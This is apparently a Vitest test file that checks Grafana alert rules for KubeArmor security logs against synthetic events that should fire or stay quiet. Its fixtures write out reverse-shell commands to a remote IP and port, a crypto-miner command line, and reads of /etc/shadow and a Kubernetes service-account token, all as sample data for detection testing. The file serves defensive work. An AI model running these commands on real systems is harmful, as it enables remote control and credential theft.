import { readFileSync, readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { isDeepStrictEqual } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { z } from 'zod';
import { compileQuery, parseModel } from '../plugin/shared/index.js';
import { alertingFiles, groups } from '../provisioning/src/alerting/files.js';
import { dashboards } from '../provisioning/src/dashboards.js';
import type { Row } from './support/plugin-model.js';
import { ModelNode } from './support/plugin-model.js';

const provisioning = fileURLToPath(new URL('../provisioning/', import.meta.url));

const question = z.object({
  refId: z.string(),
  datasourceUid: z.literal('armorlake'),
  relativeTimeRange: z.object({ from: z.number().positive(), to: z.literal(0) }),
  model: z.looseObject({ refId: z.string(), alertCoverage: z.object({ mode: z.string() }).loose() }),
});
const condition = z.object({
  refId: z.literal('B'),
  datasourceUid: z.literal('__expr__'),
  model: z.looseObject({
    type: z.literal('threshold'),
    expression: z.literal('A'),
    conditions: z.tuple([z.object({ evaluator: z.object({ type: z.literal('gt'), params: z.tuple([z.number()]) }) })]),
  }),
});
const made = z.object({
  refId: z.string(),
  datasourceUid: z.literal('__expr__'),
  model: z.looseObject({ type: z.literal('math'), expression: z.string().regex(/^\$\w+ \+ \d+$/) }),
});
const rule = z.object({
  uid: z.string().max(40),
  title: z.string(),
  condition: z.literal('B'),
  for: z.string().regex(/^\d+[sm]$/),
  noDataState: z.enum(['OK', 'NoData', 'Alerting', 'KeepLast']),
  execErrState: z.enum(['OK', 'Error', 'Alerting', 'KeepLast']),
  labels: z.object({
    severity: z.enum(['critical', 'high', 'medium', 'low', 'info']),
    mitre: z.string().optional(),
    concern: z.enum(['workload', 'node']),
  }),
  annotations: z.looseObject({ summary: z.string(), runbook: z.string().min(100), triage: z.string() }),
  data: z.array(z.union([question, condition, made])),
});
type Rule = z.infer<typeof rule>;
const ruleFile = z.object({
  apiVersion: z.literal(1),
  groups: z.tuple([
    z.object({ name: z.string(), folder: z.string(), interval: z.string(), rules: z.array(rule) }).loose(),
  ]),
});

const rules = groups.flatMap(
  ({ name }) => ruleFile.parse(parse(alertingFiles.get(`${name}.yaml`) ?? '')).groups[0].rules,
);
const questionsOf = ({ data }: Rule) => data.flatMap((each) => (each.datasourceUid === 'armorlake' ? [each] : []));
const thresholdOf = ({ data }: Rule): number => {
  const found = data.find(({ refId }) => refId === 'B');
  if (found === undefined) throw new Error('The rule has no threshold.');
  return condition.parse(found).model.conditions[0].evaluator.params[0];
};

/** A link as Grafana's template makes it of an instance. */
function opened(link: unknown, labels: Row, values: ReadonlyMap<string, number>): URL {
  const text = z
    .string()
    .parse(link)
    .replace('{{ externalURL }}', 'http://grafana/')
    .replaceAll(
      /\{\{ with \.Values\.(\w+) \}\}\{\{ printf "%\.0f" \.Value \}\}\{\{ else \}\}([^{]*)\{\{ end \}\}/g,
      (_, name: string, otherwise: string) => values.get(name)?.toFixed(0) ?? otherwise,
    )
    .replaceAll(
      /\{\{ with \.Labels\.(\w+) \}\}([^{]*)\{\{ \. \| urlquery \}\}\{\{ end \}\}/g,
      (_, name: string, before: string) => (labels[name] ? before + encodeURIComponent(String(labels[name])) : ''),
    );
  expect(text).not.toContain('{{');
  return new URL(text);
}

const toMs = Date.UTC(2026, 0, 2, 12);
const HOUR_MS = 3_600_000;
const ago = (minutes: number): string => new Date(toMs - minutes * 60_000).toISOString().slice(0, -1);

const web = { host: 'h1', namespace: 'shop', workload: 'wordpress', pod: 'wordpress-1', outcome: 'happened' };
/** Received so many minutes ago, as it happened unless the row says another time. */
const log = (row: Row, minutes = 1): Row => ({ ...web, received_at: ago(minutes), time: ago(minutes), ...row });
const exec = (process: string, more: Row = {}, minutes = 1): Row =>
  log({ operation: 'Process', process, resource: process, ...more }, minutes);
const file = (resource: string, more: Row = {}): Row =>
  log({
    operation: 'File',
    process: '/bin/cat',
    resource,
    data: 'syscall=SYS_OPENAT flags=O_RDONLY|O_CLOEXEC',
    ...more,
  });
const egress = (remote_ip: string, more: Row = {}, minutes = 1): Row =>
  log(
    { operation: 'Network', process: '/usr/bin/curl', direction: 'egress', remote_ip, remote_port: 443, ...more },
    minutes,
  );
const blocks = (count: number, row: Row = {}): readonly Row[] =>
  Array.from({ length: count }, () =>
    log({ type: 'MatchedPolicy', policy: 'p', outcome: 'blocked', operation: 'File', ...row }),
  );
const [west, east] = [{ cluster: 'west' }, { cluster: 'east' }];
/** Of a host itself, not of a container. */
const host = { namespace: null, workload: null, pod: null };
const written = { process: '/usr/bin/apt', data: 'syscall=SYS_OPENAT flags=O_WRONLY|O_CREAT|O_TRUNC' };
const alert = (row: Row): Row => log({ type: 'MatchedPolicy', operation: 'Process', policy: 'ksp-miner', ...row });
const member = (name: string, row: Row = {}): Row => ({
  name,
  role: 'edge',
  state: 'alive',
  tables: ['kubearmor.logs'],
  last_contact: ago(0),
  ...row,
});
const account = (row: Row = {}): Row => ({
  minute: ago(2),
  node: 'n1',
  connector: 'k',
  stream: 'logs',
  received: 10,
  stored: 10,
  dead_lettered: 0,
  dropped: 0,
  ...row,
});
const gap = (row: Row = {}): Row => ({ node: 'n1', connector: 'k', stream: 'logs', cause: 'break:14', ...row });
const token = '/run/secrets/kubernetes.io/serviceaccount/token';

type Tables = Readonly<Record<string, readonly Row[]>>;
interface Scenario {
  readonly fires: readonly Tables[];
  readonly quiet: readonly Tables[];
  /** Labels of the instance of the first scenario. */
  readonly labels: Row;
}

const place = { place: 'shop/wordpress', cluster: '', namespace: 'shop', workload: 'wordpress' };
const logs = (...rows: readonly Row[]): Tables => ({ 'kubearmor.logs': rows });
const alerts = (...rows: readonly Row[]): Tables => ({ 'kubearmor.alerts': rows });

const scenarios: Readonly<Record<string, Scenario>> = {
  'armorlake-block-burst': {
    fires: [alerts(...blocks(11))],
    labels: { node: 'n1', ...place },
    quiet: [
      alerts(...blocks(10)),
      // Each workload for itself, and only what was received within the window, whatever its own time.
      alerts(...blocks(6), ...blocks(6, { workload: 'checkout' })),
      alerts(...Array.from({ length: 11 }, (_, index) => blocks(1, { cluster: `plant-${index}` })).flat()),
      alerts(...blocks(20, { received_at: ago(6), time: ago(1) })),
      alerts(...blocks(20, { outcome: 'happened' })),
    ],
  },
  'armorlake-critical': {
    fires: [
      alerts(alert({ severity: 10, tags: ['MITRE', 'MITRE_T1496_resource_hijacking'] })),
      // Delivered late.
      alerts(alert({ severity: 9, time: ago(500) })),
    ],
    labels: { node: 'n1', ...place, policy: 'ksp-miner', outcome: 'happened', mitre: 'T1496' },
    quiet: [
      alerts(alert({ severity: 8 })),
      alerts(alert({ severity: null })),
      alerts(alert({ severity: 10, received_at: ago(11), time: ago(1) })),
    ],
  },
  'armorlake-system-write': {
    fires: [
      logs(file('/etc/cron.d/x', written)),
      logs(file('/usr/bin/ls', { ...written, data: 'lsm=PATH_RENAME' })),
      alerts(
        alert({
          operation: 'File',
          process: '/bin/sh',
          resource: '/etc/passwd',
          outcome: 'blocked',
          data: 'flags=O_RDWR',
        }),
      ),
    ],
    labels: { node: 'n1', ...place, process: '/usr/bin/apt', outcome: 'happened' },
    quiet: [
      logs(file('/etc/cron.d/x')),
      logs(file('/var/etc/x', written), file('/etcetera', written), file('/usr/bind', written)),
      logs(file('/etc/x', { ...written, outcome: 'failed' })),
      // A host that keeps itself up to date.
      logs(file('/etc/ld.so.cache', { ...written, ...host }), file('/usr/bin/ls', { ...written, ...host })),
    ],
  },
  'armorlake-production-shell': {
    fires: [
      logs(exec('/bin/bash', { tty: 'pts0', user_name: 'www-data' })),
      logs(exec('/bin/busybox', { tty: 'pts1' })),
    ],
    labels: { node: 'n1', ...place, outcome: 'happened', account: 'www-data' },
    quiet: [
      logs(exec('/bin/bash')),
      logs(exec('/usr/bin/top', { tty: 'pts0' })),
      logs(
        exec('/bin/bash', { tty: 'pts0', namespace: 'shop-staging' }),
        exec('/bin/sh', { tty: 'pts0', namespace: 'ci' }),
      ),
      logs(exec('/bin/bash', { tty: 'pts0', namespace: null })),
    ],
  },
  'armorlake-sensitive-file': {
    fires: [
      logs(file('/etc/shadow')),
      logs(file(`/var${token}`, { outcome: 'blocked' })),
      logs(file('/run/secrets/kubernetes.io/serviceaccount/..2026_01_01/token')),
      // On a host, too, where somebody who does not log people in looks at it.
      logs(file('/etc/shadow', host)),
      logs(file('/etc/shadow', { ...host, process: '/tmp/sshd' })),
      // Its command line says it, without any File event.
      logs(exec('/bin/cat', { resource: `/bin/cat ${token}` })),
    ],
    labels: { node: 'n1', ...place, process: '/bin/cat', outcome: 'happened' },
    quiet: [
      logs(file('/etc/shadow', { outcome: 'failed' })),
      logs(
        file('/etc/shadowrun.conf'),
        file('/run/secrets/kubernetes.io/serviceaccount/ca.crt'),
        file('/home/etc/shadow.txt'),
      ),
      // People log in to a host, and its timers start.
      logs(
        ...['/usr/sbin/sshd', '/usr/bin/sudo', '/sbin/unix_chkpwd', '/lib/systemd/systemd', '/usr/sbin/cron'].map(
          (process) => file('/etc/shadow', { ...host, process }),
        ),
      ),
      logs(exec('/bin/cat', { resource: '/bin/cat /etc/hosts' })),
    ],
  },
  'armorlake-new-binary': {
    fires: [
      logs(exec('/usr/sbin/apache2', {}, 1000), exec('/dev/shm/kworker')),
      // A history came in just now, and what is new in it happened just now.
      logs(exec('/usr/sbin/apache2', { time: ago(1000) }), exec('/dev/shm/kworker', { time: ago(2) })),
      // It never ran a program before.
      logs(egress('10.0.0.1', {}, 1000), exec('/dev/shm/kworker')),
      // Another cluster's workload of that name ran it before.
      logs(exec('/dev/shm/kworker', east, 1000), exec('/usr/sbin/apache2', west, 1000), exec('/dev/shm/kworker', west)),
      // The sender's clock is wrong, or it is delivered late: what was heard first is new all the same.
      logs(exec('/usr/sbin/apache2', {}, 1000), exec('/dev/shm/kworker', { time: ago(900) })),
    ],
    labels: { node: 'n1', ...place, process: '/dev/shm/kworker' },
    quiet: [
      // All of it is history.
      logs(exec('/usr/sbin/apache2', { time: ago(1000) }), exec('/bin/sh', { time: ago(800) })),
      // A short history teaches, too.
      logs(exec('/usr/sbin/apache2', { time: ago(40) }), exec('/bin/sh', { time: ago(2) })),
      // Known from its history, heard again live.
      logs(exec('/usr/sbin/apache2', { time: ago(1000) }), exec('/bin/sh', { time: ago(800) }), exec('/bin/sh')),
      logs(exec('/usr/sbin/apache2', {}, 1000), exec('/bin/sh', {}, 900), exec('/bin/sh')),
      // A workload that nobody has watched before: all of it is new, whatever one of that name did in another cluster.
      logs(exec('/usr/sbin/apache2', {}, 40), exec('/bin/sh')),
      logs(exec('/usr/sbin/apache2', east, 1000), exec('/usr/sbin/apache2', west, 40), exec('/bin/sh', west)),
      // Known there; another workload's history says nothing here.
      logs(exec('/bin/sh', { workload: 'checkout' }, 1000), exec('/bin/sh')),
    ],
  },
  'armorlake-new-egress': {
    fires: [
      logs(egress('203.0.113.1', {}, 1000), egress('185.220.101.47')),
      logs(egress('203.0.113.1', { time: ago(1000) }), egress('185.220.101.47', { time: ago(1) })),
      // It never left the network before.
      logs(egress('10.0.0.1', {}, 1000), egress('185.220.101.47')),
      // Another cluster's workload of that name did.
      logs(egress('185.220.101.47', east, 1000), egress('203.0.113.1', west, 1000), egress('185.220.101.47', west)),
    ],
    labels: { node: 'n1', ...place, remote_ip: '185.220.101.47' },
    quiet: [
      logs(egress('203.0.113.1', { time: ago(1000) }), egress('185.220.101.47', { time: ago(500) })),
      logs(egress('203.0.113.1', {}, 1000), egress('203.0.113.1')),
      logs(
        egress('203.0.113.1', {}, 1000),
        egress('10.96.14.20'),
        egress('172.20.0.1'),
        egress('::1'),
        egress('fd00::7'),
      ),
      logs(egress('203.0.113.1', {}, 1000), egress('185.220.101.47', { direction: 'ingress' })),
      logs(egress('203.0.113.1', {}, 40), egress('185.220.101.47')),
      logs(egress('203.0.113.1', east, 1000), egress('203.0.113.1', west, 40), egress('185.220.101.47', west)),
    ],
  },
  'armorlake-miner': {
    fires: [
      logs(exec('/tmp/xmrig', { outcome: 'blocked' })),
      logs(exec('/dev/shm/kworker', { resource: '/dev/shm/kworker -o stratum+tcp://203.0.113.9:443' })),
      logs(log({ operation: 'Network', process: '/x', direction: 'dns', domain: 'pool.minexmr.example.com' })),
      logs(egress('51.15.58.224', { remote_port: 3333 })),
    ],
    labels: { node: 'n1', ...place, process: '/tmp/xmrig', outcome: 'blocked' },
    quiet: [
      logs(exec('/usr/bin/determinerd'), exec('/usr/bin/find', { resource: '/usr/bin/find / -name miner' })),
      logs(egress('10.96.0.7', { remote_port: 3333 }), egress('51.15.58.224', { remote_port: 443 })),
      logs(log({ operation: 'Network', process: '/x', direction: 'dns', domain: 'pool.ntp.org' })),
    ],
  },
  'armorlake-reverse-shell': {
    fires: [
      logs(exec('/bin/bash', { resource: '/bin/bash -i >& /dev/tcp/185.220.101.47/4444 0>&1' })),
      logs(exec('/usr/bin/ncat', { resource: '/usr/bin/ncat 185.220.101.47 4444 -e /bin/sh' })),
      logs(egress('185.220.101.47', { process: '/bin/bash' })),
      logs(egress('2001:db8::1', { process: '/bin/sh' })),
    ],
    labels: { node: 'n1', ...place, process: '/bin/bash', outcome: 'happened' },
    quiet: [
      logs(
        exec('/bin/bash', { resource: '/bin/bash -c "ls /dev"' }),
        exec('/usr/bin/ncat', { resource: '/usr/bin/ncat -zv 10.0.0.1 80' }),
      ),
      logs(egress('185.220.101.47'), egress('10.96.0.1', { process: '/bin/bash' })),
    ],
  },
  'armorlake-no-file-events': {
    fires: [
      logs(exec('/bin/sh', west), egress('203.0.113.1', west), file('/x', { ...west, namespace: 'other' })),
      // Another cluster's namespace of that name says nothing of this one.
      logs(exec('/bin/sh', west), exec('/bin/sh', east), file('/lib/libc.so', east)),
      // Each host for itself, and so are its containers without Kubernetes; its own File events are not theirs.
      logs(exec('/bin/sh', host), exec('/bin/sh', { ...host, host: 'h2' }), file('/x', { ...host, host: 'h2' })),
      logs(
        exec('/bin/sh', { ...host, namespace: 'container_namespace' }),
        file('/x', { ...host, host: 'h2', namespace: 'container_namespace' }),
        file('/x', host),
      ),
    ],
    labels: { place: 'west/shop', cluster: 'west', namespace: 'shop', host: '' },
    quiet: [
      logs(exec('/bin/sh', west), file('/lib/libc.so', west)),
      // What is set for a namespace is set on all hosts of its cluster.
      logs(exec('/bin/sh', west), file('/lib/libc.so', { ...west, host: 'h2' })),
      logs(exec('/bin/sh', host), file('/x', host)),
      logs(egress('203.0.113.1')),
      {},
    ],
  },
  'armorlake-node-away': {
    fires: [{ 'armorlake.nodes': [member('edge-1', { state: 'away', last_contact: ago(9) }), member('edge-2')] }],
    labels: { node: 'edge-1' },
    quiet: [
      { 'armorlake.nodes': [member('edge-1'), member('edge-2')] },
      // A query node stores nothing: nothing is missing without it.
      { 'armorlake.nodes': [member('edge-1'), member('q2', { role: 'query', state: 'away', tables: [] })] },
    ],
  },
  'armorlake-ingest-lag': {
    fires: [{ 'armorlake.node_metrics': [{ time: ago(1), node: 'n1', ingest_lag_seconds: 42 }] }],
    labels: { node: 'n1' },
    quiet: [
      { 'armorlake.node_metrics': [{ time: ago(1), node: 'n1', ingest_lag_seconds: 2 }] },
      { 'armorlake.node_metrics': [{ time: ago(6), node: 'n1', ingest_lag_seconds: 42 }] },
    ],
  },
  'armorlake-loss': {
    fires: [
      { 'armorlake.ledger': [account({ stored: 7, dropped: 3, reason: 'queue_full' })] },
      { 'armorlake.ledger': [account({ stored: 9, dead_lettered: 1, reason: 'decode' })] },
      alerts(log({ type: 'SystemEvent', operation: 'AlertThreshold' })),
    ],
    labels: { node: 'n1', place: '', cause: 'queue_full' },
    quiet: [{ 'armorlake.ledger': [account(), account({ minute: ago(30), dropped: 3 })] }, alerts(...blocks(3))],
  },
  'armorlake-gap': {
    fires: [
      { 'armorlake.gaps': [gap({ from_time: ago(5), to_time: ago(4) })] },
      { 'armorlake.gaps': [gap({ from_time: ago(500), cause: 'connect' })] },
      { 'armorlake.gaps': [gap({ from_time: ago(500), to_time: ago(1), cause: 'crash' })] },
    ],
    labels: { node: 'n1', connector: 'k', cause: 'break:14' },
    quiet: [
      { 'armorlake.gaps': [gap({ from_time: ago(30), to_time: ago(20) })] },
      { 'armorlake.gaps': [gap({ from_time: ago(5), to_time: ago(4), cause: 'throttle' })] },
    ],
  },
};

describe('the alert rules', () => {
  it('are in the repository as their sources make them (`npm run generate`)', () => {
    const folder = `${provisioning}alerting/`;
    const there = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.yaml'));
    expect(there.toSorted()).toEqual([...alertingFiles.keys()].toSorted());
    for (const [name, text] of alertingFiles) expect(readFileSync(folder + name, 'utf8')).toBe(text);
  });

  it('ask the data source that is provisioned', () => {
    const { datasources } = z
      .object({ datasources: z.array(z.looseObject({ uid: z.string() })) })
      .parse(parse(readFileSync(`${provisioning}datasources/armorlake.yaml`, 'utf8')));
    expect(datasources.map(({ uid }) => uid)).toEqual(['armorlake']);
  });

  it('have one name each, and a scenario each', () => {
    expect(rules.map(({ uid }) => uid).toSorted()).toEqual(Object.keys(scenarios).toSorted());
    expect(new Set(rules.map(({ title }) => title)).size).toBe(rules.length);
  });

  it("have texts without what Grafana takes for a variable of its environment (it leaves a query's alone)", () => {
    for (const each of rules) expect(JSON.stringify({ ...each, data: [] })).not.toContain('$');
  });

  it.each(rules)(
    '$uid leads to dashboards that are there, with what events say encoded',
    ({ uid, annotations, labels }) => {
      const uids = new Set([...dashboards.values()].map(({ uid }) => String(uid)));
      const links = ['triage', 'process', 'health'].flatMap((name) => {
        const link = annotations[name];
        return typeof link === 'string' ? [link] : [];
      });
      expect(links.map((link) => /d\/([a-z-]+)\?/.exec(link)?.[1] ?? '').filter((uid) => !uids.has(uid))).toEqual([]);
      expect(links.length).toBe(2);
      for (const link of links) {
        expect(link.match(/=\{\{ \. (?!\| urlquery \}\})/)).toBeNull();
        // The alert of an evaluation that failed has no numbers.
        const { searchParams } = opened(link, { node: 'a&b', cluster: 'c&d' }, new Map());
        expect([searchParams.get('from'), searchParams.get('to')]).toEqual(['now-24h', 'now']);
        // A burst may come from several nodes: its triage shows all of them.
        const everywhere = uid === 'armorlake-block-burst' && link === annotations.triage;
        expect(searchParams.get('var-node')).toBe(everywhere ? null : 'a&b');
        // An event is one node's: it needs no cluster.
        expect(searchParams.get('var-cluster')).toBe(link === annotations.process ? null : 'c&d');
      }
      expect(labels.mitre ?? 'T1').toMatch(/^TA?\d+(\.\d+)?$/);
    },
  );

  it('that need File events say so, and all others do not', () => {
    const saying = rules.filter(({ annotations }) => 'prerequisite' in annotations).map(({ uid }) => uid);
    expect(saying).toEqual(['armorlake-system-write', 'armorlake-sensitive-file']);
  });

  it('that say "never before" bear a node that is away, and say aloud when too many are', () => {
    const firstSeen = rules.filter(({ uid }) => ['armorlake-new-binary', 'armorlake-new-egress'].includes(uid));
    expect(firstSeen.map(({ execErrState }) => execErrState)).toEqual(['Error', 'Error']);
    for (const { model } of firstSeen.flatMap(questionsOf)) {
      expect(model.alertCoverage).toEqual({ mode: 'atLeast', percent: 95 });
    }
  });

  it('of the examples send to contact points that are there', () => {
    const names = z
      .object({ contactPoints: z.array(z.object({ name: z.string() })) })
      .parse(parse(alertingFiles.get('examples/contact-points.yaml') ?? ''))
      .contactPoints.map(({ name }) => name);
    const used = (alertingFiles.get('examples/policies.yaml') ?? '').matchAll(/receiver: (\S+)/g);
    expect(new Set([...used].map(([, name]) => name))).toEqual(new Set(names));
  });
});

describe('each rule, asked of a node', () => {
  let node: ModelNode;
  beforeAll(async () => {
    node = await ModelNode.open();
  });
  afterAll(async () => {
    await node[Symbol.asyncDispose]();
  });

  /** What stands there while one scenario is looked at. */
  async function within<T>(tables: Tables, look: () => Promise<T>): Promise<T> {
    for (const [table, rows] of Object.entries(tables)) await node.store(table, rows);
    try {
      return await look();
    } finally {
      for (const table of Object.keys(tables)) await node.api.lake.connection.run(`DELETE FROM ${table}`);
    }
  }

  /** A question's rows as alerting reads them: texts are labels, the one number is the value. */
  async function instances(rule: Rule, refId: string): Promise<readonly { labels: Row; value: number }[]> {
    const asked = questionsOf(rule).find((each) => each.refId === refId);
    if (asked === undefined) throw new Error(`${rule.uid} asks no ${refId}.`);
    const fromMs = toMs - asked.relativeTimeRange.from * 1000;
    const rows = await node.rows(parseModel(asked.model, 'kubearmor.alerts'), {
      fromMs,
      toMs,
      intervalMs: 60_000,
      maxDataPoints: 100,
    });
    return rows.map((row) => {
      const numbers = Object.entries(row).filter(([, value]) => typeof value === 'number');
      const labels = Object.fromEntries(Object.entries(row).filter(([, value]) => typeof value === 'string'));
      expect(numbers.length).toBe(1);
      expect(Object.keys(labels).length + 1).toBe(Object.keys(row).length);
      return { labels, value: Number(numbers[0]?.[1]) };
    });
  }

  const firing = async (rule: Rule) =>
    (await instances(rule, 'A')).filter(({ value }) => value > thresholdOf(rule)).map(({ labels }) => labels);

  it.each(rules)('$uid fires', async (rule) => {
    const scenario = scenarios[rule.uid];
    expect(scenario?.fires.length).toBeGreaterThan(0);
    for (const [index, tables] of (scenario?.fires ?? []).entries()) {
      await within(tables, async () => {
        const fired = await firing(rule);
        expect({ index, fired: fired.length }).toEqual({ index, fired: 1 });
        if (index === 0) expect(fired[0]).toEqual(scenario?.labels);
        // What the texts tell besides is of the same instances.
        const all = (await instances(rule, 'A')).map(({ labels }) => labels);
        for (const { refId } of questionsOf(rule).filter((each) => each.refId !== 'A')) {
          const told = (await instances(rule, refId)).map(({ labels }) => labels);
          expect(told).toEqual(expect.arrayContaining(all));
        }
      });
    }
  });

  /** The numbers of an instance, as the texts of its alert have them. */
  async function valuesOf(rule: Rule, labels: Row): Promise<ReadonlyMap<string, number>> {
    const values = new Map<string, number>();
    for (const { refId } of questionsOf(rule)) {
      const found = (await instances(rule, refId)).find((each) => isDeepStrictEqual(each.labels, labels));
      if (found !== undefined) values.set(refId, found.value);
    }
    for (const each of rule.data) {
      const [, name = '', added] = /^\$(\w+) \+ (\d+)$/.exec(made.safeParse(each).data?.model.expression ?? '') ?? [];
      const value = values.get(name);
      if (value !== undefined) values.set(each.refId, value + Number(added));
    }
    return values;
  }

  /** Where an instance's links lead: range and event. */
  async function ranges(rule: Rule, labels: Row) {
    const values = await valuesOf(rule, labels);
    return ['triage', 'process'].map((name) => {
      const { searchParams } = opened(rule.annotations[name], labels, values);
      const [fromMs, untilMs] = [Number(searchParams.get('from')), Number(searchParams.get('to'))];
      return { fromMs, untilMs, seq: searchParams.get('var-seq') };
    });
  }

  const ofWorkloads = rules.filter(({ labels }) => labels.concern === 'workload');

  it.each(ofWorkloads)('$uid leads to its events when they come days late', async (rule) => {
    const lateMs = 48 * HOUR_MS;
    const late = (row: Row): Row => ({
      ...row,
      time: new Date(Date.parse(`${String(row['time'])}Z`) - lateMs).toISOString().slice(0, -1),
    });
    const [tables = {}] = scenarios[rule.uid]?.fires ?? [];
    const told = Object.fromEntries(Object.entries(tables).map(([table, rows]) => [table, rows.map(late)]));
    await within(told, async () => {
      const [labels] = await firing(rule);
      const happenedMs = toMs - 60_000 - lateMs;
      const range = { fromMs: happenedMs - HOUR_MS, untilMs: happenedMs + HOUR_MS };
      expect(await ranges(rule, labels ?? {})).toEqual([
        { ...range, seq: null },
        { ...range, seq: expect.stringMatching(/^[1-9]\d*$/) as string },
      ]);
    });
  });

  function ruleOf(uid: string): Rule {
    const rule = rules.find((each) => each.uid === uid);
    if (rule === undefined) throw new Error(`There is no rule ${uid}.`);
    return rule;
  }

  it('fires for a thief beside the application, whose own reading of its token is silenced', async () => {
    const reads = (process: string) => file(token, { process });
    const rule = ruleOf('armorlake-sensitive-file');
    const fired = await within(logs(reads('/app/server'), reads('/bin/cat')), () => firing(rule));
    const heard = fired.filter(({ process }) => process !== '/app/server');
    expect(heard).toEqual([{ node: 'n1', ...place, process: '/bin/cat', outcome: 'happened' }]);
  });

  it.each([
    ['armorlake-system-write', 'process', (process: string) => file('/etc/x', { ...written, process })],
    ['armorlake-miner', 'process', (process: string) => egress('51.15.58.224', { process, remote_port: 3333 })],
    [
      'armorlake-reverse-shell',
      'process',
      (process: string) => exec(process, { resource: 'sh -i >& /dev/tcp/1.1.1.1/1' }),
    ],
    ['armorlake-production-shell', 'account', (user_name: string) => exec('/bin/sh', { tty: 'pts0', user_name })],
  ] as const)('%s tells each %s apart', async (uid, label, by) => {
    const fired = await within(logs(by('z'), by('a'), by('a')), () => firing(ruleOf(uid)));
    expect(fired.map((labels) => labels[label]).toSorted()).toEqual(['a', 'z']);
  });

  it('tells of no more names of a workload than can be read, those first that were heard first, and of the rest as one', async () => {
    const known = ['/app/server', '/app/client'].map((process) =>
      file('/etc/shadow', { process, received_at: ago(9) }),
    );
    const crowd = Array.from({ length: 50 }, (_, index) =>
      file('/etc/shadow', { process: `/Tmp/${index}`, node: `n${index % 2}` }),
    );
    const other = file('/etc/shadow', { ...east, process: '/bin/cat' });
    const rule = ruleOf('armorlake-sensitive-file');
    const found = await within(logs(...known, ...crowd, other), () => instances(rule, 'A'));
    const here = found.filter(({ labels }) => labels['cluster'] === '');
    const names = here.map(({ labels }) => String(labels['process']));
    expect(new Set(names).size).toBe(21);
    expect(names).toEqual(expect.arrayContaining(['/app/server', '/app/client', '(others)']));
    expect(here.reduce((sum, { value }) => sum + value, 0)).toBe(52);
    expect(found.filter(({ labels }) => labels['cluster'] === 'east').map(({ labels }) => labels['process'])).toEqual([
      '/bin/cat',
    ]);
  });

  it('opens an hour before the first and after the last event of an instance', async () => {
    const rule = ruleOf('armorlake-sensitive-file');
    const times = [ago(600), ago(30), ago(5)];
    const found = await within(logs(...times.map((time) => file('/etc/shadow', { time }))), () =>
      ranges(rule, scenarios[rule.uid]?.labels ?? {}),
    );
    expect(found[0]).toMatchObject({ fromMs: toMs - 11 * HOUR_MS, untilMs: toMs - 5 * 60_000 + HOUR_MS });
  });

  it('tells of no more new binaries of a workload than can be read', async () => {
    const rule = ruleOf('armorlake-new-binary');
    const crowd = Array.from({ length: 50 }, (_, index) => exec(`/tmp/${index}`));
    expect(await within(logs(exec('/sbin/x', {}, 1000), ...crowd), () => firing(rule))).toHaveLength(20);
  });

  it.each(rules)('$uid is quiet', async (rule) => {
    const scenario = scenarios[rule.uid];
    expect(scenario?.quiet.length).toBeGreaterThan(0);
    for (const [index, tables] of (scenario?.quiet ?? []).entries()) {
      expect({ index, fired: await within(tables, () => firing(rule)) }).toEqual({ index, fired: [] });
    }
  });

  it('judges by when an event was received, not by what it says of its time, except of an imported history', () => {
    const ofHistories = new Set(['armorlake-new-binary', 'armorlake-new-egress']);
    for (const rule of rules.filter(({ uid }) => !ofHistories.has(uid))) {
      for (const { model } of questionsOf(rule)) {
        const { sql } = compileQuery(parseModel(model, 'kubearmor.alerts'), {
          fromMs: toMs - 1,
          toMs,
          intervalMs: 1,
          maxDataPoints: 1,
        });
        // Where its links begin and end is the events' own time.
        const judged = sql.replaceAll(/epoch_ms\((min|max)\(time\)\)|min\(time\) AS first|max\(time\) AS last/g, '');
        if (sql.includes('kubearmor.')) expect(judged).not.toMatch(/(?<![_\w])time\b/);
      }
    }
  });
});
